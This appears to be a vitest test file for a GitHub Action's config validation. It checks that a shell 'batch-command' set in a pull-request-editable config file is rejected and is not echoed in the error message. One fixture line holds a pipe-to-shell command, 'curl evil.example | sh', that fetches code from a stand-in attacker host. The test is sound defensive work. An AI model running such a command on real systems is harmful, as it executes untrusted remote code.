import { describe, expect, it } from 'vitest';
import { formatConfigIssue } from '../../../src/config/config-error.js';
import { parseConfigFile } from '../../../src/config/load-config-file.js';
import { workflowOnlyIssues } from '../../../src/github/resolve-action-config.js';

describe('workflowOnlyIssues', () => {
  it('refuses batch-command from the config file, without repeating the command', () => {
    const fileRaw = parseConfigFile('model: resnet\nbatch-strategy: command\nbatch-command: curl evil.example | sh\n', 'perf.yml');
    const issues = workflowOnlyIssues(fileRaw, 'perf.yml');
    expect(issues.map(formatConfigIssue)).toEqual([
      "input 'batch-command': got '(set in config-file perf.yml)', expected a value in the workflow file's `with:` only; " +
        'it runs a shell command on the runner, and perf.yml is repository content a pull request can change; move it to the workflow',
    ]);
    expect(JSON.stringify(issues)).not.toContain('evil');
  });

  it('accepts every other key, and an empty batch-command', () => {
    const fileRaw = parseConfigFile('model: resnet\nbatch-strategy: command\nbatch-command:\nusers: 1-4\n', 'perf.yml');
    expect(workflowOnlyIssues(fileRaw, 'perf.yml')).toEqual([]);
  });
});
